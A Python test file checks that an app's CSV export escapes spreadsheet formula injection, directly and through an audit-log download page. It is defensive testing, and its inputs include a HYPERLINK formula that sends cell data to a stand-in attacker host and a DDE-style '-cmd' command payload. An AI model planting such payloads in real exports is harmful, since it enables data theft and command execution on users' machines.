"""CSV exports cannot carry a live spreadsheet formula (core/ui/export.py), directly and through the audit download."""

from __future__ import annotations

import csv
import datetime as dt
import io

import polars as pl
import pytest
from hypothesis import given
from hypothesis import strategies as st
from streamlit.runtime.memory_media_file_storage import MemoryMediaFileStorage
from streamlit.testing.v1 import AppTest

from core.auth import audit
from core.config import ROOT
from core.ui.export import FORMULA_STARTS, csv_bytes

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def cells(data: bytes) -> list[list[str]]:
    """Rows of cells as a spreadsheet would read them."""
    return list(csv.reader(io.StringIO(data.decode(), newline="")))


def test_formula_cells_are_neutralised_and_the_rest_untouched():
    frame = pl.DataFrame(
        {
            "time": [dt.datetime(2025, 8, 17, 6, 23, 14, 5000, tzinfo=dt.UTC)] * 8,
            "actor": [FORMULA, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "plain", "a=b"],
            "value": [-5.0, 1.0, 2.0, 3.0, 4.0, 5.0, 6.0, 7.0],
            "kind": pl.Series(["=x", "a", "b", "c", "d", "e", "f", "g"], dtype=pl.Categorical),
        }
    )
    header, *rows = cells(csv_bytes(frame))
    assert header == ["time", "actor", "value", "kind"]
    assert [row[1] for row in rows] == ["'" + FORMULA, "'+1+1", "'-2+3", "'@SUM(A1)", "'\t=1", "'\r=1", "plain", "a=b"]
    assert rows[0][0] == "2025-08-17T06:23:14.005Z"  # times in UTC ISO 8601 with milliseconds
    assert rows[0][2] == "-5.0"  # a negative number stays a number
    assert rows[0][3] == "'=x"  # categorical text is text too


@given(st.lists(st.text(max_size=20), min_size=1, max_size=5))
def test_no_written_text_cell_starts_like_a_formula(values):
    header, *rows = cells(csv_bytes(pl.DataFrame({"t": values})))
    assert header == ["t"]
    for row, value in zip(rows, values, strict=True):
        cell = row[0] if row else ""  # an empty text may be written as an empty line
        assert not cell.startswith(FORMULA_STARTS)
        assert cell == ("'" + value if value.startswith(FORMULA_STARTS) else value)


@pytest.fixture
def downloads(monkeypatch: pytest.MonkeyPatch) -> list[bytes]:
    """The bytes of every file a download button hands to Streamlit's media storage."""
    saved: list[bytes] = []
    original = MemoryMediaFileStorage.load_and_get_id

    def keep(self, path_or_data, mimetype, kind, filename=None):  # type: ignore[no-untyped-def]
        saved.append(path_or_data)
        return original(self, path_or_data, mimetype, kind, filename)

    monkeypatch.setattr(MemoryMediaFileStorage, "load_and_get_id", keep)
    return saved


def test_the_audit_csv_neutralises_a_formula_username_and_target(app_store, downloads):
    audit.record(app_store, FORMULA, audit.LOGIN_FAILED, "-cmd|' /C calc'!A0", {"note": "x"}, "203.0.113.9")
    at = AppTest.from_file(str(ROOT / "pages" / "audit.py"), default_timeout=120)
    at.session_state["role"] = "admin"  # login off in page tests: the local viewer takes this role
    at.run()
    assert not at.exception, [e.value for e in at.exception]
    header, *rows = cells(downloads[-3])  # CSV, Parquet and JSON buttons: the CSV is the first of the three
    row = dict(zip(header, next(r for r in rows if audit.LOGIN_FAILED in r), strict=True))
    assert row["actor"] == "'" + FORMULA
    assert row["target"] == "'-cmd|' /C calc'!A0"
    assert row["address"] == "203.0.113.9" and row["detail"] == '{"note":"x"}'
